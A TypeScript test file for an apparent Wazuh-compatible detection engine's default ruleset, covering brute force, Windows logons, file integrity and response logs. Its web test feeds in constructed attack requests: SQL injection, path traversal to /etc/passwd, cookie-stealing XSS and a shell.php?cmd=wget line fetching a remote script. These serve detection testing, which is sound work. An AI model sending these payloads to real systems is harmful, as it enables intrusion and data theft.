/**
 * Riposte's default ruleset (`ruleset/`): it loads cleanly, decides like the stock Wazuh 4.14.7
 * ruleset on the golden corpora for the rules it defines, keeps the stock ids, levels and
 * correlation settings, and handles the events the golden data lacks (Riposte's FIM and response
 * log, Windows event-channel logons) as documented in docs/default-ruleset.md.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { utf8ToBin } from '../src/bytes.ts';
import { AnalysisSession, type Processed, type Ruleset } from '../src/engine/engine.ts';
import { loadRuleset, stockSources } from '../src/engine/load-ruleset.ts';
import { rewriteRule60000 } from '../src/ruleset-test/index.ts';
import type { Rule } from '../src/rules/types.ts';
import { GOLDEN_DIR, goldenCorpora, STOCK_RULESET, type GoldenRecord } from './support/golden.ts';

const DEFAULT_RULESET = new URL('../ruleset/', import.meta.url).pathname;

/** The rules the issue names, and the parents they are reached through. */
const TARGET_IDS: ReadonlySet<number> = new Set([
  5710, 5712, 5716, 5720, 5760, 5763, 5501, 5503, 31101, 31102, 31103, 31104, 31105, 31106, 31151,
  550, 553, 554, 60122, 60204, 18152,
  5700, 5500, 31100, 31108, 60000, 60001, 60104, 60105,
]);

const def = loadRuleset(stockSources(DEFAULT_RULESET));

/**
 * The one intended departure from the stock correlation settings (docs/default-ruleset.md): the
 * brute-force rules bound to firewall-drop have no `ignore` window, which in Wazuh silences the
 * rule for EVERY source once it fired, so a distributed brute force would walk through it. Stock
 * value per id.
 */
const NO_IGNORE: ReadonlyMap<number, number> = new Map([[5712, 60], [5763, 60]]);

/** The default ruleset with the stock `ignore` put back: it must decide exactly as stock. */
const faithful = loadRuleset(stockSources(DEFAULT_RULESET), {
  transformRuleText: (_file, text) => {
    let out = text;
    for (const [id, sec] of NO_IGNORE) {
      const head = new RegExp(`<rule id="${id}"([^>]*)>`);
      const m = head.exec(out);
      if (!m) continue;
      assert.ok(!(m[1] as string).includes('ignore='), `rule ${id} has an ignore window again`);
      out = out.replace(head, `<rule id="${id}"$1 ignore="${sec}">`);
    }
    return out;
  },
});
// Stock, with rule 60000 set up as Wazuh's own ruleset tests do (decoded_as json), so that
// event-channel JSON lines reach the stock Windows rules through Riposte's log path.
const stock = loadRuleset(stockSources(STOCK_RULESET), {
  transformRuleText: (file, text) => (file.endsWith('0575-win-base_rules.xml') ? rewriteRule60000(text) : text),
});

const T0 = 1_700_000_000;

/** A session on a settable clock (seconds). */
function session(rs: Ruleset): {
  at: (t: number) => void;
  /** A text line (encoded to UTF-8 bytes). */
  send: (line: string, location?: string) => Processed;
  /** A byte string, as is. */
  process: (location: string, bytes: string) => Processed;
} {
  let now = T0;
  const s = new AnalysisSession(rs, () => now);
  return {
    at: (t) => {
      now = T0 + t;
    },
    send: (line, location = 'stdin') => s.process(location, utf8ToBin(line)),
    process: (location, bytes) => s.process(location, bytes),
  };
}

const idOf = (p: Processed): number | null => p.outcome.rule?.id ?? null;

/**
 * Whether stock rule `id` is `ancestor` or sits below it (through if_sid): where stock went on to
 * a more specific child (an IOC list, an appsec signature), the default stopping at the parent
 * agrees with it on the target.
 */
/**
 * Lines where the default intentionally acts and stock does not, with the reason (also in
 * docs/default-ruleset.md).
 */
const KNOWN_DIFFERENCES: ReadonlyMap<string, string> = new Map([
  // A scanner (w3af user agent) with many 4xx answers: stock files each request under an appsec
  // signature the default does not define, so its 31151 count never fills; the default counts
  // them as client errors and reports the scan.
  ['devini-web_appsec:15', 'the default counts appsec-signature 4xx towards 31151'],
]);

/**
 * Where the default fired target `got` and stock fired `want` (another id, or none), whether the
 * two still agree for a response bound to `got`:
 * - stock went on below `got` to a more specific child (an IOC list, a signature);
 * - stock fired a rule the default does not define (the appsec signatures, 31170/31171) at a
 *   level at least as high: stock alerted at least as loudly on the same event, so the default
 *   acts nowhere stock stayed quiet;
 * - the line is Windows event-channel JSON: the reference was fed it as a log line, where its
 *   internal event-channel decoder never runs (stock decodes it as plain json), while Riposte's
 *   decoder reads it wherever it arrives (docs/default-ruleset.md).
 */
function agreesOnTarget(want: number | null, got: number, line: string): boolean {
  if (stockDescends(want, got) || line.startsWith('{"win":')) return true;
  if (want === null || def.rules.byId.has(want)) return false;
  return (stock.rules.byId.get(want)?.level ?? -1) >= (def.rules.byId.get(got)?.level ?? Infinity);
}

function stockDescends(id: number | null, ancestor: number): boolean {
  const seen = new Set<number>();
  const walk = (at: number): boolean => {
    if (at === ancestor) return true;
    if (seen.has(at)) return false;
    seen.add(at);
    return (stock.rules.byId.get(at)?.ifSid ?? []).some(walk);
  };
  return id !== null && walk(id);
}

test('the default ruleset loads with no errors or warnings, local files included', () => {
  assert.deepEqual(def.rules.warnings, []);
  const src = stockSources(DEFAULT_RULESET);
  assert.ok(src.decoderFiles.some((f) => f.endsWith('etc-defaults/local_decoder.xml')));
  assert.ok(src.ruleFiles.some((f) => f.endsWith('etc-defaults/local_rules.xml')));
  for (const id of TARGET_IDS) assert.ok(def.rules.byId.has(id), `rule ${id} is missing`);
  for (const id of [1, 2, 3, 4, 5, 6, 7]) assert.equal(def.rules.byId.get(id)?.noalert, true, `root ${id}`);
});

test('shared ids keep the stock level, parents and correlation settings', () => {
  const shape = (r: Rule) => ({
    level: r.level,
    noalert: r.noalert,
    category: r.category,
    ifSid: [...r.ifSid].sort((a, b) => a - b),
    ifGroup: r.ifGroup,
    ifMatchedSid: r.ifMatchedSid,
    ifMatchedGroup: r.ifMatchedGroup,
    frequency: r.frequencyAttr,
    timeframe: r.timeframe,
    ignore: r.ignoreTime,
    sameFields: r.sameFields,
    sameDynamic: r.sameDynamic,
  });
  let shared = 0;
  for (const [id, shipped] of def.rules.byId) {
    const mine = faithful.rules.byId.get(id) as Rule;
    // Shipped and faithful differ in the ignore windows of NO_IGNORE, and nowhere else.
    assert.deepEqual(shape(shipped), { ...shape(mine), ignore: NO_IGNORE.has(id) ? 0 : mine.ignoreTime }, `rule ${id}`);
    const ref = stock.rules.byId.get(id);
    if (!ref) continue;
    shared++;
    const want = shape(ref);
    // The stock copy of 60000 was rewritten above (category dropped), and the event-channel rules
    // below it inherit its category through if_sid; in the shipped stock files that is ossec.
    if (id >= 60000 && id < 61000 && (id === 60000 || ref.ifSid.length > 0)) {
      assert.equal(want.category, 'syslog');
      want.category = 'ossec';
    }
    assert.deepEqual(shape(mine), want, `rule ${id} differs from stock`);
  }
  assert.ok(shared >= 70, `only ${shared} ids shared with stock`);
  for (const [id, sec] of NO_IGNORE) {
    assert.equal(stock.rules.byId.get(id)?.ignoreTime, sec, `stock ${id}`);
    assert.equal(def.rules.byId.get(id)?.ignoreTime, 0, `default ${id}`);
  }
  // Riposte's own ids must not collide with a stock rule (the first definition of an id wins).
  for (let id = 100650; id <= 100659; id++) {
    assert.ok(def.rules.byId.has(id), `rule ${id} is missing`);
    assert.ok(!stock.rules.byId.has(id), `rule ${id} collides with stock`);
  }
  // 18152 is not in Wazuh 4.14.7 (see docs/default-ruleset.md).
  assert.ok(!stock.rules.byId.has(18152));
});

/** What the differential needs from one golden record. */
interface StockResult {
  readonly id: number | null;
  readonly t: number;
  readonly location: string;
}

/**
 * One golden record, read without JSON.parse on the common shape (150,000 records; this halves
 * the test's time). The keys come in a fixed order, and an unescaped `"rule": ` can only be the
 * top-level key, since a quote inside a JSON string is always escaped. Any other shape, or a
 * record whose `n` is not the expected line number, goes through JSON.parse.
 */
function stockResult(record: string, n: number): StockResult {
  const head = `{"n": ${n}, "location": "`;
  const locEnd = record.indexOf('"', head.length);
  const ruleAt = record.indexOf('"rule": ');
  const tAt = record.lastIndexOf(', "t": ');
  const location = record.slice(head.length, locEnd);
  if (record.startsWith(head) && !location.includes('\\') && ruleAt > 0 && tAt > ruleAt && record.endsWith('}')) {
    const id = record.startsWith('null', ruleAt + 8) ? null : /^\{"id": "(\d+)"/.exec(record.slice(ruleAt + 8, ruleAt + 30))?.[1];
    const t = Number(record.slice(tAt + 7, -1));
    if (id !== undefined && Number.isInteger(t)) return { id: id === null ? null : Number(id), t, location };
  }
  const g = JSON.parse(record) as GoldenRecord;
  assert.equal(g.n, n, 'golden record out of order');
  return { id: g.rule ? Number(g.rule.id) : null, t: g.t, location: g.location };
}

function goldenText(name: string): string {
  try {
    return gunzipSync(readFileSync(join(GOLDEN_DIR, `${name}.golden.jsonl.gz`))).toString('utf8');
  } catch {
    return readFileSync(join(GOLDEN_DIR, `${name}.golden.jsonl`), 'utf8');
  }
}

/** One golden line as replayed through a session of Riposte's ruleset. */
interface GoldenLine {
  readonly name: string;
  /** 1-based line number in the corpus. */
  readonly n: number;
  readonly line: string;
  /** What the reference (stock Wazuh 4.14.7) did with it. */
  readonly stock: StockResult;
  readonly got: Processed;
}

/** Every golden corpus through `rs`, one session per corpus, on the reference's clock. */
function* replayGolden(rs: Ruleset): Generator<GoldenLine> {
  for (const name of goldenCorpora()) {
    // Raw line bytes (latin1), as the reference received them.
    const raw = readFileSync(join(GOLDEN_DIR, `${name}.log`)).toString('latin1');
    const lines = raw === '' ? [] : raw.replace(/\n$/, '').split('\n');
    const records = goldenText(name).split('\n').filter((l) => l !== '');
    assert.equal(records.length, lines.length, `${name}: golden and log differ in length`);
    const s = session(rs);
    for (let i = 0; i < lines.length; i++) {
      const g = stockResult(records[i] as string, i + 1);
      const line = lines[i] as string;
      s.at(g.t);
      yield { name, n: i + 1, line, stock: g, got: s.process(utf8ToBin(g.location), line) };
    }
  }
}

test('differential: on the golden corpora the default ruleset (stock ignore windows) fires the stock rule wherever stock fires one of its ids', (t) => {
  // Per stock id defined here: [lines where stock fired it, lines where the default agrees].
  const perId = new Map<number, [number, number]>();
  const failures: string[] = [];
  // Target ids the default fired where stock fired something else (must not happen either).
  const extra: string[] = [];
  for (const { name, n, line, stock: g, got: p } of replayGolden(faithful)) {
    const got = idOf(p);
    const want = g.id;
    if (want !== null && faithful.rules.byId.has(want)) {
      const c = perId.get(want) ?? [0, 0];
      c[0]++;
      if (got === want) c[1]++;
      else failures.push(`${name}:${n} stock ${want}, default ${got ?? 'none'}: ${line.slice(0, 120)}`);
      perId.set(want, c);
    } else if (got !== null && TARGET_IDS.has(got) && !agreesOnTarget(want, got, line) && !KNOWN_DIFFERENCES.has(`${name}:${n}`)) {
      extra.push(`${name}:${n} stock ${want ?? 'none'}, default ${got}: ${line.slice(0, 120)}`);
    }
  }
  const report = [...perId].sort((a, b) => a[0] - b[0]).map(([id, [n, ok]]) => `${id}${TARGET_IDS.has(id) ? '*' : ''} ${ok}/${n}`);
  t.diagnostic(`agreement per stock rule id (* = target): ${report.join(', ')}`);
  assert.deepEqual(failures.slice(0, 10), [], `${failures.length} disagreements`);
  assert.deepEqual(extra.slice(0, 10), [], `${extra.length} target firings where stock fired something else`);
  // The corpora exercise these target ids; a vanished corpus or a skipped loop must fail here.
  for (const id of [5710, 5712, 5716, 5760, 5763, 5501, 5503, 31101, 31102, 31108]) {
    assert.ok((perId.get(id)?.[0] ?? 0) > 0, `no golden line for target ${id}`);
  }
  assert.ok((perId.get(5710)?.[0] ?? 0) > 30_000);
});

/** A brute-force rule of NO_IGNORE and the rule whose events it counts. */
const BRUTE_FORCE: ReadonlyArray<{ readonly id: number; readonly counts: number }> = [{ id: 5763, counts: 5760 }, { id: 5712, counts: 5710 }];

test('differential: on the golden corpora the shipped default (no ignore window) alerts every source stock alerts, at most once per 8 failures', (t) => {
  const WINDOW_SEC = 120;
  const THRESHOLD = 8;
  for (const { id, counts } of BRUTE_FORCE) {
    // Per source: times of its counted events (the child alert included: it is one more failure).
    const times = new Map<string, number[]>();
    const crossed = new Set<string>();
    const alertedShipped = new Set<string>();
    const alertedStock = new Set<string>();
    let shippedAlerts = 0;
    let stockAlerts = 0;
    let counted = 0;
    for (const { stock: g, got: p } of replayGolden(def)) {
      const got = idOf(p);
      const ip = p.event.srcip;
      if (g.id === id) stockAlerts++;
      if (got === id) shippedAlerts++;
      if (ip === null || (got !== id && got !== counts)) continue;
      counted++;
      if (g.id === id) alertedStock.add(ip);
      if (got === id) alertedShipped.add(ip);
      const ts = times.get(ip) ?? [];
      ts.push(g.t);
      times.set(ip, ts);
      if (ts.length >= THRESHOLD && g.t - (ts[ts.length - THRESHOLD] as number) <= WINDOW_SEC) crossed.add(ip);
    }
    // The golden corpora replay at the reference's speed (t is its clock, 50,000 lines in seconds):
    // analysisd's bounded event memory (8,192) forgets a source's older failures, so a few sources
    // cross the threshold on paper and are never alerted, by stock or here. The generated corpus
    // of test/replay.test.ts checks "every crossing source" on event time.
    const unalerted = [...crossed].filter((ip) => !alertedShipped.has(ip)).length;
    t.diagnostic(`${id}: ${crossed.size} sources crossed ${THRESHOLD} in ${WINDOW_SEC} s; shipped alerted ${alertedShipped.size} ` +
      `(${shippedAlerts} alerts), stock ${alertedStock.size} (${stockAlerts} alerts); ${unalerted} crossing sources forgotten by the event memory`);
    for (const ip of alertedStock) assert.ok(alertedShipped.has(ip), `${id}: ${ip} alerted by stock only`);
    for (const ip of alertedShipped) assert.ok(crossed.has(ip), `${id}: ${ip} alerted without crossing`);
    // The volume stays bounded: an alert consumes the events it counted, so at most one per 8.
    assert.ok(shippedAlerts * THRESHOLD <= counted, `${id}: ${shippedAlerts} alerts for ${counted} failures`);
    assert.ok(alertedStock.size > 100, `${id}: the corpora lost their brute force`);
  }
});

test('thirteen attackers one after the other, eight failed passwords each: the shipped default alerts every one, the stock window only the first', () => {
  const run = (rs: Ruleset): string[] => {
    let now = T0;
    // As `riposte start` and `riposte replay` run it: a rule inside its ignore window yields its parent.
    const s = new AnalysisSession(rs, () => now, { ignoreMode: 'live' });
    const alerted: string[] = [];
    for (let a = 0; a < 13; a++) {
      const ip = `203.0.113.${10 + a}`;
      for (let i = 0; i < 8; i++) {
        // Two lines a second, no pause between attackers: all thirteen within the 60 s window.
        now = T0 + a * 4 + (i >> 1);
        const p = s.process('/var/log/auth.log', utf8ToBin(`Dec  2 03:00:00 srv1 sshd[${100 + a}]: Failed password for root from ${ip} port ${40000 + i} ssh2`));
        if (idOf(p) === 5763) alerted.push(p.event.srcip as string);
      }
    }
    return alerted;
  };
  assert.deepEqual(run(def), Array.from({ length: 13 }, (_, a) => `203.0.113.${10 + a}`));
  assert.deepEqual(run(faithful), ['203.0.113.10']);
  assert.deepEqual(run(stock), ['203.0.113.10']);
});

// --- Web attacks: the golden corpora hold scanners but no attack URLs ------------------------

test('web: constructed attack requests and a scanner decide as stock (31101-31106, 31151)', () => {
  const requests: Array<[string, string]> = [
    ['/index.php?id=1%20union%20select%201,2,3', '200'], ['/index.php?id=1%20union%20select%201,2,3', '500'],
    ['/item?id=1+union+select+null,null', '404'], ['/p.php?c=1%20union%20all%20select%20pw%20from%20users', '403'],
    ['/cgi-bin/../../../../etc/passwd', '400'], ['/download.php?file=../../../../etc/passwd', '200'],
    ['/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir', '404'], ['/index.php?page=%2E%2E/%2E%2E/etc/passwd', '404'],
    ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', '200'], ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', '404'],
    ['/login?next=%22%3E%3Cscript%3Edocument.cookie%3C%2Fscript%3E', '302'], ['/shell.php?cmd=wget%20http://x/x.sh', '404'],
    ['/x?a=%00', '404'], ['/wp-login.php', '404'], ['/.env', '404'], ['/index.html', '200'], ['/favicon.ico', '404'],
    ['/api/users?id=1', '200'],
  ];
  const line = (ip: string, url: string, code: string) =>
    `${ip} - - [20/Jan/2015:19:53:28 +0100] "GET ${url} HTTP/1.1" ${code} 47 "-" "Mozilla/5.0"`;
  const stream: string[] = requests.map(([url, code]) => line('203.0.113.9', url, code));
  for (let i = 0; i < 16; i++) stream.push(line('198.51.100.3', `/probe${i}.php`, '404'));
  const run = (rs: Ruleset) => {
    const s = session(rs);
    return stream.map((l) => idOf(s.send(l, '/var/log/nginx/access.log')));
  };
  const mine = run(def);
  assert.deepEqual(mine, run(stock));
  for (const id of [31101, 31102, 31103, 31104, 31105, 31106, 31108, 31151]) assert.ok(mine.includes(id), `${id} not exercised`);
  assert.equal(mine.indexOf(31151), requests.length + 13, 'the 14th 404 from one address is a scan');
});

// --- File integrity: riposte-fim events -------------------------------------------------------

const fim = (event: string, path: string) =>
  JSON.stringify({ syscheck: { event, path, mode: 'realtime', size_after: '1077', sha256_after: 'ab'.repeat(32), uname_after: 'root' } });

test('FIM: modified, deleted and added files fire 550, 553 and 554', () => {
  const s = session(def);
  const cases: Array<[string, number, number]> = [['modified', 550, 7], ['deleted', 553, 7], ['added', 554, 5]];
  for (const [event, id, level] of cases) {
    const p = s.send(fim(event, '/etc/nginx/nginx.conf'), 'riposte-fim');
    assert.equal(p.event.decoder?.name, 'riposte-fim');
    assert.equal(idOf(p), id, event);
    assert.equal(p.outcome.rule?.level, level);
    assert.equal(p.outcome.alert, true);
    assert.match(p.outcome.description, /\/etc\/nginx\/nginx\.conf/);
    assert.match(p.outcome.rule?.groups ?? '', /syscheck,/);
  }
  // An event kind with no rule stays silent; so does a JSON line that is not FIM.
  assert.equal(idOf(s.send(fim('renamed', '/etc/hosts'))), null);
  assert.notEqual(s.send('{"sys":{"event":"modified"}}').event.decoder?.name, 'riposte-fim');
});

// --- Windows event channel: logon failures --------------------------------------------------

function winEvent(eventID: string, severityValue: string, ipAddress: string, logonType: string, channel = 'Security'): string {
  return JSON.stringify({
    win: {
      system: {
        providerName: 'Microsoft-Windows-Security-Auditing', providerGuid: '{54849625-5478-4994-a5ba-3e3b0328c30d}',
        eventID, version: '0', level: '0', task: '12544', opcode: '0', keywords: '0x8010000000000000',
        systemTime: '2025-03-04T10:15:02.1234567Z', eventRecordID: '16591', processID: '840', threadID: '9800',
        channel, computer: 'WS01.corp.example', severityValue, message: '"An account failed to log on."',
      },
      eventdata: {
        subjectUserSid: 'S-1-0-0', subjectLogonId: '0x0', targetUserSid: 'S-1-0-0', targetUserName: 'bob',
        targetDomainName: 'CORP', status: '0xc000006d', failureReason: '%%2313', subStatus: '0xc000006a', logonType,
        logonProcessName: 'NtLmSsp ', authenticationPackageName: 'NTLM', workstationName: 'WKS7', ipAddress, ipPort: '49152',
      },
    },
  });
}
const failure = (ip: string, logonType = '3') => winEvent('4625', 'AUDIT_FAILURE', ip, logonType);

/** Replay the same stream through stock and default; the ids per event. */
function bothWays(stream: ReadonlyArray<[number, string]>): { stock: Array<number | null>; def: Array<number | null> } {
  const run = (rs: Ruleset) => {
    const s = session(rs);
    return stream.map(([t, line]) => {
      s.at(t);
      return idOf(s.send(line, 'EventChannel'));
    });
  };
  return { stock: run(stock), def: run(def) };
}

test('Windows: 4625 fires 60122, eight from one address within 240 s fire 60204, as stock does', () => {
  const stream: Array<[number, string]> = [];
  for (let i = 0; i < 9; i++) stream.push([i * 10, failure('203.0.113.7')]);
  // Slow failures (one every 40 s): never 8 inside 240 s.
  for (let i = 0; i < 9; i++) stream.push([1000 + i * 40, failure('203.0.113.8', '10')]);
  const r = bothWays(stream);
  assert.deepEqual(r.def, r.stock);
  assert.deepEqual(r.def.slice(0, 9), [60122, 60122, 60122, 60122, 60122, 60122, 60122, 60204, 60122]);
  assert.ok(r.def.slice(9).every((id) => id === 60122));
  const p = session(def).send(failure('203.0.113.7'), 'EventChannel');
  assert.equal(p.event.findDynamic('win.eventdata.ipAddress'), '203.0.113.7');
  assert.equal(p.outcome.rule?.level, 5);
});

test('Windows: network logon failures from many sources fire 18152, where stock stays at 60122', () => {
  const stream: Array<[number, string]> = [];
  for (let i = 0; i < 8; i++) stream.push([i, failure(`198.51.100.${i + 1}`)]);
  const r = bothWays(stream);
  assert.deepEqual(r.stock, Array(8).fill(60122));
  assert.deepEqual(r.def, [...Array(7).fill(60122), 18152]);
  // The same spray over Remote Desktop (logon type 10) is not a network logon.
  const rdp = bothWays(stream.map(([t, line]) => [t, line.replace('"logonType":"3"', '"logonType":"10"')]));
  assert.deepEqual(rdp.def, Array(8).fill(60122));
});

test('Windows: a successful logon and other channels do not look like failures', () => {
  const s = session(def);
  assert.equal(idOf(s.send(winEvent('4624', 'AUDIT_SUCCESS', '203.0.113.7', '3'), 'EventChannel')), 60106);
  assert.equal(idOf(s.send(winEvent('7036', 'INFORMATION', '-', '0', 'System'), 'EventChannel')), 60000);
});

// --- Riposte's response log: riposte-ar events --------------------------------------------------

const ar = (fields: Record<string, string | number>) =>
  `2025/03/04 10:15:02 riposte: ${JSON.stringify({ version: 1, decision: 'd-4f1c', program: 'firewall-drop', srcip: '203.0.113.7', rule_id: '5763', ...fields })}`;

test('response log: each outcome has its rule, with the target in static fields', () => {
  const s = session(def);
  const cases: Array<[Record<string, string | number>, number, number]> = [
    [{ command: 'add', status: 'succeeded', exit_code: 0 }, 100651, 3],
    [{ command: 'delete', status: 'succeeded', exit_code: 0 }, 100652, 3],
    [{ command: 'add', status: 'failed', exit_code: 1, reason: 'iptables: not found' }, 100653, 8],
    [{ command: 'add', status: 'timed_out', duration_ms: 60000 }, 100654, 8],
    [{ command: 'add', status: 'refused', reason: 'target is allowlisted' }, 100655, 5],
    [{ command: 'add', status: 'simulated' }, 100656, 3],
    [{ command: 'add', status: 'queued' }, 100657, 3],
    [{ command: 'add', status: 'inactive' }, 100658, 5],
  ];
  for (const [fields, id, level] of cases) {
    const p = s.send(ar(fields), '/var/ossec/logs/active-responses.log');
    assert.equal(p.event.decoder?.name, 'riposte-ar');
    assert.equal(idOf(p), id, JSON.stringify(fields));
    assert.equal(p.outcome.rule?.level, level);
    assert.equal(p.event.srcip, '203.0.113.7');
    assert.equal(p.event.status, fields['status']);
  }
  const applied = s.send(ar({ command: 'add', status: 'succeeded' }));
  assert.equal(applied.outcome.description, 'Riposte: firewall-drop applied to 203.0.113.7 (rule 5763).');
  const failed = s.send(ar({ command: 'add', status: 'failed', exit_code: 2, reason: 'no nft' }));
  assert.equal(failed.outcome.description, 'Riposte: response program firewall-drop failed (add, exit code 2): no nft');
  // Not JSON after the tag: grouped at level 0, never an alert.
  const junk = s.send('2025/03/04 10:15:02 riposte: Starting');
  assert.equal(idOf(junk), 100650);
  assert.equal(junk.outcome.alert, false);
});

test('response log: five failures of one program within 10 minutes fire 100659', () => {
  const s = session(def);
  const ids: Array<number | null> = [];
  for (let i = 0; i < 5; i++) {
    s.at(i * 60);
    // Another program failing in between does not count for firewall-drop.
    ids.push(idOf(s.send(ar({ command: 'add', status: i % 2 ? 'timed_out' : 'failed' }))));
    ids.push(idOf(s.send(ar({ command: 'add', status: 'failed', program: 'host-deny' }))));
  }
  assert.deepEqual(ids, [100653, 100653, 100654, 100653, 100653, 100653, 100654, 100653, 100659, 100659]);
  // Spread over more than 600 s: no escalation.
  const slow = session(def);
  const late: Array<number | null> = [];
  for (let i = 0; i < 5; i++) {
    slow.at(i * 200);
    late.push(idOf(slow.send(ar({ command: 'add', status: 'failed' }))));
  }
  assert.deepEqual(late, Array(5).fill(100653));
});
